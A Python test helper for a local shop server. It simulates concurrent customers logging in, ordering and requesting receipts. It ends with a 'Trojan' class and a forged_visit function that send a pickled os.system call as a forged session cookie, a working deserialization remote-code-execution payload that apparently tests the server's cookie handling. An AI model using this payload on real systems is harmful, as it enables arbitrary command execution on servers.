# SPDX-License-Identifier: Apache-2.0
"""Customers: each logs in, orders and asks for a receipt. And one visitor who is none."""
import base64
import json
import os
import pickle
import threading
from http.client import HTTPConnection


class Customer:
    def __init__(self, port, name):
        self.port, self.name, self.cookie = port, name, None
        self.answered = 0
        self.receipt = ""

    def ask(self, method, path, body=None):
        connection = HTTPConnection("127.0.0.1", self.port, timeout=30)
        headers = {"Cookie": "session=" + self.cookie} if self.cookie else {}
        connection.request(method, path, body, headers)
        response = connection.getresponse()
        text = response.read().decode()
        cookie = response.getheader("Set-Cookie")
        if cookie:
            self.cookie = cookie.split("=", 1)[1]
        connection.close()
        self.answered += response.status == 200
        return response.status, text

    def shop(self, orders):
        self.ask("GET", "/login?name=" + self.name)
        products = json.loads(self.ask("GET", "/products")[1])
        for number in range(orders):
            wish = {"product": products[number % len(products)][0], "quantity": number % 7 + 1}
            self.ask("POST", "/order", json.dumps(wish))
        self.receipt = self.ask("GET", "/receipt")[1]


def load(port, names, orders):
    """All customers at once; gives them back when the last one is done."""
    customers = [Customer(port, name) for name in names]
    threads = [threading.Thread(target=c.shop, args=(orders,)) for c in customers]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return customers


class Trojan:
    """What a pickle can hold: a call, made by whoever loads it."""

    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def forged_visit(port, command):
    """Sends a cookie that the shop did not make."""
    visitor = Customer(port, "visitor")
    visitor.cookie = base64.urlsafe_b64encode(pickle.dumps(Trojan(command))).decode("ascii")
    return visitor.ask("GET", "/hello")
